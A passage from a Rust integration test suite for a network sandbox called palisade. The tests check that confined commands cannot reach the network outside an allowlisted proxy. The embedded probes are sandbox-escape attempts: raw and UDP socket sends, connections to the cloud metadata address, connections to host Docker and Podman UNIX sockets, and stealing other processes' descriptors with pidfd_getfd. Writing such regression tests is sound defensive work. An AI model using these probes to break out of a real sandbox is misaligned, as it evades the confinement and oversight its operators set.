    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).sendto(b"PR25-raw", ("10.99.0.1", 0))

def packet():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))

for label, action in [("udp", udp), ("quic", quic), ("raw-icmp", raw_icmp), ("ping-socket", ping_socket),
                      ("raw-ip", raw_ip), ("packet", packet)]:
    attempt(label, action)
"#;

// Public reports: nolabs-ai/nono#756 (UDP and `dig @8.8.8.8` passed `--block-net`) and
// navikt/cplt#241 (one `sendto` carried a file past a proxy-only mode). Neither mode lets a
// datagram, a raw packet or an ICMP echo out, and allowed TCP keeps working.
both_identities!(non_tcp_traffic_never_leaves, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &["curl"]) else { return };
    lab.udp("udp-private", PRIVATE_ADDRESS, 9999);
    lab.udp("quic", ALLOWED_ADDRESS, 443);
    lab.icmp("icmp");
    lab.run_command(&["--net", "none"], &[PYTHON, "-c", NON_TCP_PROBE]);
    let script = format!(
        "{PYTHON} -c \"$0\"\ncurl -s -m 3 -o /dev/null -w 'tcp %{{http_code}}\\n' http://allowed.test:{HTTP_PORT}/",
    );
    lab.run_command(&allow_http(), &["/bin/sh", "-c", &script, NON_TCP_PROBE]);
    let runs = lab.start();

    for run in &runs {
        run.expect_code(0);
        let outcomes = ["sent", "refused", "failed"];
        let is_attempt = |line: &&str| line.split(' ').nth(1).is_some_and(|word| outcomes.contains(&word));
        let lines: Vec<&str> = run.stdout.lines().filter(is_attempt).collect();
        assert_eq!(lines.len(), 6, "a probe did not run\n{}", run.describe());
        // Raw and packet sockets need CAP_NET_RAW, which the command never has.
        for label in ["raw-icmp", "raw-ip", "packet"] {
            let line = run.line(&format!("{label} "));
            assert!(!line.ends_with(" sent"), "a {label} socket worked: {line}");
        }
    }
    runs[0].assert_nothing_reached();
    assert_eq!(runs[1].line("tcp "), "tcp 200", "allowed TCP stopped working\n{}", runs[1].describe());
    runs[1].assert_only_reached(&["allowed"]);
});

// Public reports: the E2B network documentation (a firewall that accepts the TCP handshake
// before deciding, so blocked connections look open) and docker/sbx-releases#611 (one refusal
// surfaced three different ways). A refusal is immediate and names the rule that decided.
both_identities!(refusals_are_fast_and_named, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &["curl"]) else { return };
    lab.host("secret.corp.test", BLOCKED_ADDRESS);
    f.write(
        &f.ws.join("policy.toml"),
        "[network]\nallow = [\"*.corp.test\", \"allowed.test:18080\", \"127.0.0.2:18080\"]\ndeny = [\"secret.corp.test\"]\n",
    );
    let script = r#"
/usr/bin/python3 -c '
import errno, socket, time
for host in ["10.99.0.1", "169.254.169.254", "blocked.test"]:
    started = time.monotonic()
    try:
        socket.create_connection((host, 443), 2)
        result = "CONNECTED"
    except OSError as error:
        result = errno.errorcode.get(error.errno, type(error).__name__) if error.errno else type(error).__name__
    print("direct", host, result, "SECONDS", round(time.monotonic() - started, 3))
'
curl -s -m 3 -o body.txt -w 'status %{http_code} SECONDS %{time_total}\n' http://secret.corp.test:@HTTP@/
echo "body $(head -c 200 body.txt)"
curl -sS -m 3 -o /dev/null https://secret.corp.test/ 2>&1 | sed 's/^/tunnel /'
exit 0
"#
    .replace("@HTTP@", &HTTP_PORT.to_string());
    lab.run_sh(&["--policy", "policy.toml"], &script);
    let run = lab.start_one();
    run.expect_code(0);

    let direct = run.lines_starting("direct ");
    assert_eq!(direct.len(), 3, "a direct probe did not run\n{}", run.describe());
    for line in direct {
        let refused = ["ENETUNREACH", "ECONNREFUSED", "EACCES", "EPERM", "gaierror"].iter().any(|error| line.contains(error));
        assert!(refused, "a direct connection did not fail at once with a refusal: {line}");
        let seconds = seconds_of(line);
        assert!(seconds < 1.0, "a direct connection took {seconds} s to fail: {line}");
    }

    let status = run.line("status ");
    assert!(status.starts_with("status 403 "), "{}", run.describe());
    let seconds = seconds_of(status);
    assert!(seconds < 1.0, "the proxy took {seconds} s to refuse");
    let body = value_after(&run, "body ");
    assert!(body.starts_with(&format!("palisade blocked secret.corp.test:{HTTP_PORT}")), "{body}");
    assert!(body.contains("deny entry 'secret.corp.test'"), "the refusal does not name the deny entry: {body}");
    assert!(run.line("tunnel ").contains("403"), "{}", run.describe());

    let denials = run.network_denials();
    assert_eq!(denials.len(), 2, "{:#}", run.report());
    for denial in denials {
        assert_eq!(denial["rule"], "secret.corp.test", "the report names another rule: {denial:#}");
    }
    run.assert_nothing_reached();
});

// Public report: nolabs-ai/nono#781 (a deny on a UNIX socket path blocked open and stat but not
// `connect`, and the agent drove the Podman API). The proxy carries TCP only, so allowlist mode
// opens no way to the host's UNIX sockets: not in the home directory, not in /tmp, and not an
// abstract one in the namespace palisade runs in.
both_identities!(host_unix_sockets_closed_in_allowlist_mode, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &["curl"]) else { return };
    let marker = f.root.file_name().unwrap().to_string_lossy().into_owned();
    let docker = f.home.join("run/docker.sock");
    let podman = f.home.join("run/podman/podman.sock");
    let tmp = Path::new("/tmp").join(format!("{marker}.sock"));
    let abstract_name = format!("{marker}-abstract");
    lab.unix("docker", &docker).unix("podman", &podman).unix("tmp", &tmp).unix_abstract("abstract", &abstract_name);
    let script = r#"
for socket in "$@"; do
    curl -s -m 3 --unix-socket "$socket" -o /dev/null -w "curl $socket %{http_code}\n" http://d/_ping
done
/usr/bin/python3 -c '
import socket, sys
for address in sys.argv[1:]:
    client = socket.socket(socket.AF_UNIX)
    try:
        client.connect(address.replace("@", "\0", 1))
        print("python", address, "CONNECTED")
    except OSError as error:
        print("python", address, type(error).__name__)
' "$@" "@$ABSTRACT"
exit 0
"#;
    let paths = [docker.to_str().unwrap(), podman.to_str().unwrap(), tmp.to_str().unwrap()];
    let mut command = vec!["/bin/sh", "-c", script, "sh"];
    command.extend(paths);
    let abstract_env = format!("ABSTRACT={abstract_name}");
    lab.run_command(&flags(&[&allow_http(), &["--env".to_owned(), abstract_env]]), &command);
    let run = lab.start_one();
    run.expect_code(0);

    let curl = run.lines_starting("curl ");
    assert_eq!(curl.len(), 3, "a curl probe did not run\n{}", run.describe());
    for line in curl {
        assert!(line.ends_with(" 000"), "a host UNIX socket answered: {line}");
    }
    let python = run.lines_starting("python ");
    assert_eq!(python.len(), 4, "a python probe did not run\n{}", run.describe());
    for line in python {
        assert!(!line.ends_with(" CONNECTED"), "a host UNIX socket accepted a connection: {line}");
    }
    run.assert_nothing_reached();
});

/// Lists every socket descriptor the command can see in `/proc` and the inodes of the TCP
/// sockets listening in its network namespace. Then it tries to copy each descriptor of every
/// other process with `pidfd_getfd` and to take over the proxy's port, and sends the proxy a
/// request for a refused host. Prints `FD PID FD TARGET` per socket descriptor, `UNREADABLE PID` per
/// process whose descriptors it cannot list, `LISTEN INODE PORT`, `COPIED PID FD` per copied
/// descriptor, `bind ERROR` and `answer STATUS-LINE`.
const DESCRIPTOR_PROBE: &str = r#"
import ctypes, errno, glob, os, socket

SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438
libc = ctypes.CDLL(None, use_errno=True)
proxy_port = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
me = str(os.getpid())
pids = sorted(path.split("/")[2] for path in glob.glob("/proc/[0-9]*"))
for pid in pids:
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        print("UNREADABLE", pid)
        continue
    for fd in fds:
        try:
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
        if target.startswith("socket:"):
            print("FD", pid, fd, target)
for table in ["/proc/net/tcp", "/proc/net/tcp6"]:
    for line in open(table).readlines()[1:]:
        fields = line.split()
        if fields[3] == "0A":
            print("LISTEN", fields[9], int(fields[1].rsplit(":", 1)[1], 16))
for pid in pids:
    if pid == me:
        continue
    pidfd = libc.syscall(SYS_PIDFD_OPEN, int(pid), 0)
    if pidfd < 0:
        continue
    for fd in range(64):
        copied = libc.syscall(SYS_PIDFD_GETFD, pidfd, fd, 0)
        if copied >= 0:
            print("COPIED", pid, fd, os.readlink(f"/proc/self/fd/{copied}"))
            os.close(copied)
print("SCANNED", len(pids), flush=True)

server = socket.socket()
try:
    server.bind(("127.0.0.1", proxy_port))
    server.listen()
    print("bind SUCCEEDED")
except OSError as error:
    print("bind", errno.errorcode.get(error.errno, error.errno))

with socket.create_connection(("127.0.0.1", proxy_port), 3) as client:
    client.sendall(b"GET http://blocked.test:18080/ HTTP/1.1\r\nHost: blocked.test:18080\r\n\r\n")
    print("answer", client.recv(200).split(b"\r\n")[0].decode())
"#;

// Public report: the anthropic-experimental/sandbox-runtime README ("Unix Socket Restrictions":
// a filter on new sockets does not cover descriptors the command inherits or receives). Init
// creates the proxy's listening socket inside the sandbox and hands it to palisade over a
// socket pair, so neither may stay open in any process the command can reach.
both_identities!(proxy_sockets_not_inherited, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &[]) else { return };
    let script = format!("ls -l /proc/self/fd | grep -- '->'\n{PYTHON} -c \"$0\"");
    lab.run_command(&allow_http(), &["/bin/sh", "-c", &script, DESCRIPTOR_PROBE]);
    let run = lab.start_one();
    run.expect_code(0);

    let mut descriptors: Vec<u32> = Vec::new();
    for line in run.stdout.lines().filter(|line| line.contains(" -> ")) {
        let (left, target) = line.split_once(" -> ").unwrap();
        // `ls` keeps the directory it lists open, so that descriptor is its own.
        if !(target.starts_with("/proc/") && target.ends_with("/fd")) {
            descriptors.push(left.rsplit(' ').next().unwrap().parse().unwrap());
        }
    }
    assert_eq!(descriptors, [0, 1, 2], "the command has descriptors other than stdin, stdout and stderr\n{}", run.describe());

    assert!(run.lines_starting("SCANNED ").len() == 1, "the descriptor probe did not run\n{}", run.describe());
    let sockets = run.lines_starting("FD ");
    assert!(sockets.is_empty(), "a process inside holds a socket: {sockets:?}\n{}", run.describe());
    let copied = run.lines_starting("COPIED ");
    assert!(copied.is_empty(), "the command copied another process's descriptors: {copied:?}\n{}", run.describe());
    let proxy_port = run.report()["network"]["proxy"].as_str().unwrap().rsplit(':').next().unwrap().to_owned();
    let listeners = run.lines_starting("LISTEN ");
    assert!(
        listeners.iter().any(|line| line.ends_with(&format!(" {proxy_port}"))),
        "the proxy's listening socket is not in the sandbox's namespace\n{}",
        run.describe()
    );
    assert_eq!(run.line("bind "), "bind EADDRINUSE", "the command took over the proxy's port\n{}", run.describe());
    assert!(run.line("answer ").starts_with("answer HTTP/1.1 403"), "something other than the proxy answered\n{}", run.describe());
    run.assert_nothing_reached();
});

// Public report: openai/codex#19146 (an allowed host was blocked; users also asked for rules per
// port). An entry with a port allows that port only.
//
// The address entry here names no port, so only the name entry's port can refuse
// allowed.test:18090.
both_identities!(allowlist_honours_ports, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &["curl"]) else { return };
    lab.http("allowed-other-port", ALLOWED_ADDRESS, OTHER_PORT);
    let script = r#"
curl -s -m 3 -o /dev/null -w 'listed %{http_code}\n' http://allowed.test:@HTTP@/listed
curl -s -m 3 -o /dev/null -w 'other-port %{http_code}\n' http://allowed.test:@OTHER@/other-port
curl -s -m 3 -o /dev/null -w 'other-host %{http_code}\n' http://blocked.test:@HTTP@/other-host
exit 0
"#
    .replace("@HTTP@", &HTTP_PORT.to_string())
    .replace("@OTHER@", &OTHER_PORT.to_string());
    let name_entry = format!("allowed.test:{HTTP_PORT}");
    lab.run_sh(&["--allow-domain", name_entry.as_str(), "--allow-domain", ALLOWED_ADDRESS], &script);
    let run = lab.start_one();
    run.expect_code(0);

    assert_eq!(run.line("listed "), "listed 200", "the allowed host is blocked\n{}", run.describe());
    assert_eq!(run.line("other-port "), "other-port 403", "{}", run.describe());
    assert_eq!(run.line("other-host "), "other-host 403", "{}", run.describe());
    run.assert_only_reached(&["allowed"]);
    assert_eq!(run.records("allowed").len(), 1, "{}", run.describe());
    let ports: Vec<&Value> = run.network_denials().iter().map(|denial| &denial["port"]).collect();
    assert_eq!(ports, [&Value::from(OTHER_PORT), &Value::from(HTTP_PORT)], "{:#}", run.report());
});

// Real clients through the proxy: curl over HTTP, HTTPS (CONNECT, verified against the lab's
// certificate) and SOCKS5, each once to an allowed and once to a refused upstream.
both_identities!(curl_through_proxy, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &["curl", "openssl"]) else { return };
    lab.tls("allowed-tls", ALLOWED_ADDRESS, TLS_PORT);
    lab.tls("blocked-tls", BLOCKED_ADDRESS, TLS_PORT);
    let script = r#"
echo "http $(curl -sS -m 3 http://allowed.test:@HTTP@/page 2>&1)"
echo "https $(curl -sS -m 3 --cacert lab-ca.pem https://allowed.test:@TLS@/secure 2>&1)"
echo "socks5 $(curl -sS -m 3 -x "$ALL_PROXY" http://allowed.test:@HTTP@/socks 2>&1)"
curl -s -m 3 -o /dev/null -w 'refused-http %{http_code}\n' http://blocked.test:@HTTP@/
curl -s -m 3 --cacert lab-ca.pem -o /dev/null https://blocked.test:@TLS@/; echo "refused-https $?"
curl -s -m 3 -x "$ALL_PROXY" -o /dev/null http://blocked.test:@HTTP@/; echo "refused-socks5 $?"
"#
    .replace("@HTTP@", &HTTP_PORT.to_string())
    .replace("@TLS@", &TLS_PORT.to_string());
    lab.run_sh(&flags(&[&allow_http(), &allow_upstream(TLS_PORT)]), &script);
    let run = lab.start_one();
    run.expect_code(0);

    assert_eq!(run.line("http "), "http LAB-OK allowed", "{}", run.describe());
    assert_eq!(run.line("https "), "https LAB-TLS-OK allowed-tls", "{}", run.describe());
    assert_eq!(run.line("socks5 "), "socks5 LAB-OK allowed", "{}", run.describe());
    assert_eq!(run.line("refused-http "), "refused-http 403", "{}", run.describe());
    // curl's exit statuses: 56 when the proxy refuses the CONNECT, 97 when it refuses SOCKS5.
    assert_eq!(run.line("refused-https "), "refused-https 56", "{}", run.describe());
    assert_eq!(run.line("refused-socks5 "), "refused-socks5 97", "{}", run.describe());

    run.assert_only_reached(&["allowed", "allowed-tls"]);
    assert_eq!(run.records("allowed").len(), 2, "{}", run.describe());
    assert_eq!(run.records("allowed-tls").len(), 1, "{}", run.describe());
    let protocols: Vec<&Value> = run.network_denials().iter().map(|denial| &denial["protocol"]).collect();
    assert_eq!(protocols, ["http", "connect", "socks5"], "{:#}", run.report());
});

/// Opens the number of CONNECT tunnels given as its argument to the lab's allowed address, all at
/// once. A tunnel to an address is relayed as soon as it opens, so the proxy relays them all at
/// the same time. It prints the proxy's status codes, then sends a request through each tunnel,
/// reads the reply and prints how many were the lab's page. Apart from its hard limit on
/// descriptors, nothing is printed before every tunnel is open.
const MANY_TUNNELS: &str = r#"
import os, resource, socket, sys
print("limit", resource.getrlimit(resource.RLIMIT_NOFILE)[1], flush=True)
target = "@ADDRESS@:@HTTP@"
proxy = int(os.environ["HTTPS_PROXY"].rsplit(":", 1)[1])
tunnels, codes = [], {}
for _ in range(int(sys.argv[1])):
    s = socket.create_connection(("127.0.0.1", proxy), timeout=10)
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(4096)
        if not chunk:
            break
        head += chunk
    code = head.split(b" ")[1].decode() if head.startswith(b"HTTP/") else "closed"
    codes[code] = codes.get(code, 0) + 1
    if code == "200":
        tunnels.append(s)
print("codes", " ".join(f"{code}={count}" for code, count in sorted(codes.items())), flush=True)
served = 0
for index, s in enumerate(tunnels):
    s.sendall(f"GET /tunnel-{index} HTTP/1.0\r\nHost: allowed.test\r\n\r\n".encode())
    reply = b""
    while True:
        chunk = s.recv(4096)
        if not chunk:
            break
        reply += chunk
    served += b"LAB-OK" in reply
print("served", served)
"#;

// Each tunnel relayed through pipes needs six descriptors. Under a limit of 512, a hundred open
// tunnels would leave palisade none for the connections it accepts and dials, nor for copying
// the command's output, so only some tunnels may use pipes. Every tunnel must work, and the
// command's output, first written while all tunnels are open, must arrive. The proxy's debug
// log shows that both kinds of relay carried tunnels.
both_identities!(many_tunnels_within_few_descriptors, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &["python3", "prlimit"]) else { return };
    let script = MANY_TUNNELS.replace("@ADDRESS@", ALLOWED_ADDRESS).replace("@HTTP@", &HTTP_PORT.to_string());
    fs::write(f.ws.join("many_tunnels.py"), script).unwrap();
    lab.descriptor_limit(512);
    lab.env("PALISADE_LOG", "palisade_proxy=debug");
    lab.run_command(&allow_http(), &["python3", "many_tunnels.py", "100"]);
    let run = lab.start_one();
    run.expect_code(0);
    // The command inherits palisade's hard limit, which shows that palisade started with it.
    assert_eq!(run.line("limit "), "limit 512", "{}", run.describe());
    assert_eq!(run.line("codes "), "codes 200=100", "{}", run.describe());
    assert_eq!(run.line("served "), "served 100", "{}", run.describe());
    assert_eq!(run.records("allowed").len(), 100, "{}", run.describe());
    // Half of 512 descriptors, four per tunnel, gives 64 places for tunnels through pipes. A
    // tunnel logs when it closes, and the proxy may stop before the last ones have, so the
    // counts are lower bounds.
    let relayed = |how: &str| run.stderr.lines().filter(|line| line.contains(&format!("relayed {how}"))).count();
    assert!(relayed("through pipes") >= 1, "no tunnel went through pipes\n{}", run.describe());
    assert!(relayed("through pipes") <= 64, "more tunnels went through pipes than there are places\n{}", run.describe());
    assert!(relayed("by copying") >= 1, "no tunnel was copied\n{}", run.describe());
});

/// Port of the file servers the git and pip tests start on `allowed.test`.
const FILES_PORT: u16 = 18082;

/// Runs `program ARGS` on the host, as the user running the tests, and panics if it fails.
#[track_caller]
fn host_command(program: &str, args: &[&str], dir: &Path) {
    let output = Command::new(program).args(args).current_dir(dir).output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{program} {args:?} failed: {stderr}");
}

/// Creates `served/repo.git` under `root`, a bare repository with one commit that python's
/// file server can serve as git's "dumb" HTTP protocol, and returns `served`.
fn dumb_http_repository(root: &Path) -> std::path::PathBuf {
    let source = root.join("repo-source");
    let served = root.join("served");
    fs::create_dir_all(&source).unwrap();
    fs::create_dir_all(&served).unwrap();
    fs::write(source.join("README"), "served by the lab\n").unwrap();
    let identity = ["-c", "user.email=lab@example.invalid", "-c", "user.name=lab"];
    host_command("git", &["init", "-q"], &source);
    host_command("git", &["add", "README"], &source);
    host_command("git", &[&identity[..], &["commit", "-q", "-m", "lab commit"]].concat(), &source);
    host_command("git", &["clone", "-q", "--bare", source.to_str().unwrap(), "repo.git"], &served);
    // The dumb protocol reads info/refs and objects/info/packs, which this command writes.
    host_command("git", &["update-server-info"], &served.join("repo.git"));
    served
}

// Real client: `git clone` over HTTP through the proxy, from an allowed host and from one that
// is not on the list.
both_identities!(git_clone_through_proxy, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &["git"]) else { return };
    let served = dumb_http_repository(&f.root);
    lab.files("git-server", ALLOWED_ADDRESS, FILES_PORT, &served);
    // Each run clones into the directory named by its argument, since both share the workspace.
    let script = format!(
        "git clone -q http://allowed.test:{FILES_PORT}/repo.git \"$1\" 2>&1; echo \"clone $?\"\n\
         git -C \"$1\" log --format='log %s' 2>&1\n\
         echo \"readme $(cat \"$1\"/README)\""
    );
    lab.run_command(&allow_upstream(FILES_PORT), &["/bin/sh", "-c", &script, "sh", "allowed-clone"]);
    lab.run_command(&allow_http(), &["/bin/sh", "-c", &script, "sh", "refused-clone"]);
    let runs = lab.start();
    let (allowed, refused) = (&runs[0], &runs[1]);
    allowed.expect_code(0);
    refused.expect_code(0);

    assert_eq!(allowed.line("clone "), "clone 0", "{}", allowed.describe());
    assert_eq!(allowed.line("log "), "log lab commit", "{}", allowed.describe());
    assert_eq!(allowed.line("readme "), "readme served by the lab", "{}", allowed.describe());
    allowed.assert_only_reached(&["git-server"]);
    assert!(allowed.received("git-server").contains("GET /repo.git/info/refs"), "{}", allowed.received("git-server"));

    assert_eq!(refused.line("clone "), "clone 128", "{}", refused.describe());
    assert!(refused.stdout.contains("403"), "git does not show the proxy's refusal\n{}", refused.describe());
    refused.assert_nothing_reached();
    assert!(!refused.network_denials().is_empty(), "{:#}", refused.report());
});

/// Builds a wheel of the package `labpkg` 1.0 and a PEP 503 "simple" index for it under
/// `sys.argv[1]`, with the standard library only.
const WHEEL_BUILDER: &str = r#"
import hashlib, os, sys, zipfile
root = sys.argv[1]
name = "labpkg-1.0-py3-none-any.whl"
os.makedirs(os.path.join(root, "packages"), exist_ok=True)
os.makedirs(os.path.join(root, "simple", "labpkg"), exist_ok=True)
wheel = os.path.join(root, "packages", name)
files = {
    "labpkg/__init__.py": "VERSION = '1.0'\n",
    "labpkg-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: labpkg\nVersion: 1.0\n",
    "labpkg-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: palisade-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
records = "".join(f"{path},,\n" for path in files) + "labpkg-1.0.dist-info/RECORD,,\n"
with zipfile.ZipFile(wheel, "w") as archive:
    for path, text in files.items():
        archive.writestr(path, text)
    archive.writestr("labpkg-1.0.dist-info/RECORD", records)
digest = hashlib.sha256(open(wheel, "rb").read()).hexdigest()
with open(os.path.join(root, "simple", "index.html"), "w") as page:
    page.write('<html><body><a href="labpkg/">labpkg</a></body></html>\n')
with open(os.path.join(root, "simple", "labpkg", "index.html"), "w") as page:
    page.write(f'<html><body><a href="../../packages/{name}#sha256={digest}">{name}</a></body></html>\n')
"#;

// Real client: `pip download` from a package index on an allowed host, and from one that is not
// on the list.
both_identities!(pip_download_through_proxy, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &["pip"]) else { return };
    let index = f.root.join("index");
    host_command(PYTHON, &["-c", WHEEL_BUILDER, index.to_str().unwrap()], &f.root);
    lab.files("index", ALLOWED_ADDRESS, FILES_PORT, &index);
    // Each run downloads into the directory named by its argument, since both share the workspace.
    let script = format!(
        "pip download --no-deps --no-cache-dir --disable-pip-version-check --retries 0 --timeout 5 \
         --trusted-host allowed.test --index-url http://allowed.test:{FILES_PORT}/simple/ labpkg -d \"$1\" 2>&1; \
         echo \"pip $?\"; ls \"$1\" 2>/dev/null | sed 's/^/file /'"
    );
    lab.run_command(&allow_upstream(FILES_PORT), &["/bin/sh", "-c", &script, "sh", "allowed-downloads"]);
    lab.run_command(&allow_http(), &["/bin/sh", "-c", &script, "sh", "refused-downloads"]);
    let runs = lab.start();
    let (allowed, refused) = (&runs[0], &runs[1]);
    allowed.expect_code(0);
    refused.expect_code(0);

    assert_eq!(allowed.line("pip "), "pip 0", "{}", allowed.describe());
    assert_eq!(allowed.line("file "), "file labpkg-1.0-py3-none-any.whl", "{}", allowed.describe());
    allowed.assert_only_reached(&["index"]);
    assert!(allowed.received("index").contains("GET /simple/labpkg/"), "{}", allowed.received("index"));

    assert_ne!(refused.line("pip "), "pip 0", "{}", refused.describe());
    assert!(refused.lines_starting("file ").is_empty(), "pip downloaded from a refused host\n{}", refused.describe());
    refused.assert_nothing_reached();
    assert!(!refused.network_denials().is_empty(), "{:#}", refused.report());
});

// PR-22 (refusals invisible until after the run): with --events, each refusal of the proxy
// reaches the host as a JSON line while the command still runs. The command waits for the test
// to acknowledge the event before it exits, so a stream written only at the end fails here.
both_identities!(refusals_stream_as_events, |f: &Fixture| {
    if !Path::new("/usr/bin/curl").exists() {
        return skip(&f.name, "needs /usr/bin/curl");
    }
    let events = f.root.join("events.jsonl");
    let script = "curl -s -o /dev/null -w 'code %{http_code}\\n' http://blocked.invalid/; \
        for i in $(seq 100); do [ -e acknowledged ] && break; sleep 0.1; done; [ -e acknowledged ] && echo acknowledged";
    let mut command = f.as_owner(palisade_binary().to_str().unwrap());
    command.args(["run", "--allow-domain", "127.0.0.1:9", "--events"]).arg(&events).args(["--timeout", "30s", "--", "sh", "-c", script]);
    command.current_dir(&f.ws).env("HOME", &f.home).stdin(std::process::Stdio::null()).stdout(std::process::Stdio::piped());
    let child = command.spawn().expect("failed to start palisade");

    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    let line = loop {
        let text = std::fs::read_to_string(&events).unwrap_or_default();
        if let Some(line) = text.lines().next() {
            break line.to_owned();
        }
        assert!(std::time::Instant::now() < deadline, "no event within 10 s of the start");
        std::thread::sleep(std::time::Duration::from_millis(20));
    };
    std::fs::write(f.ws.join("acknowledged"), "").unwrap();
    let output = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(stdout, "code 403\nacknowledged\n", "the command did not see the acknowledgement");

    let event: Value = serde_json::from_str(&line).unwrap_or_else(|error| panic!("{error}: {line}"));
    assert_eq!(event["kind"], "network", "{event:#}");
    assert_eq!(event["destination"], "blocked.invalid", "{event:#}");
    assert_eq!(event["port"], 80, "{event:#}");
    assert_eq!(event["protocol"], "http", "{event:#}");
    assert!(event["message"].as_str().unwrap().contains("not on the allowlist"), "{event:#}");
    assert!(event["time_unix_ms"].as_u64().is_some(), "{event:#}");
    assert_eq!(std::fs::read_to_string(&events).unwrap().lines().count(), 1, "one refusal, one event");
});
